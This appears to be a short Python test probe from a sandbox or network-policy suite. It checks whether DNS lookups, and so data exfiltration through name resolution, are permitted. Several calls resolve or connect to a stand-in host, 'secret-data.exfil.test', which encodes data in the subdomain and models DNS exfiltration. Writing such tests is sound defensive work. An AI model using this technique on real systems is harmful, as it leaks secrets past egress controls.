# Data can leave through a name lookup: the policy decides whether the resolver is asked.
import socket
from _report import attempt

attempt("getaddrinfo", lambda: socket.getaddrinfo("secret-data.exfil.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4])
attempt("gethostbyname", lambda: socket.gethostbyname("secret-data.exfil.test"))
attempt("connect by name", lambda: socket.create_connection(("secret-data.exfil.test", 9), timeout=1))
attempt("hosts file", lambda: socket.gethostbyname("localhost"))
attempt("gethostbyaddr", lambda: socket.gethostbyaddr("10.9.8.7"))
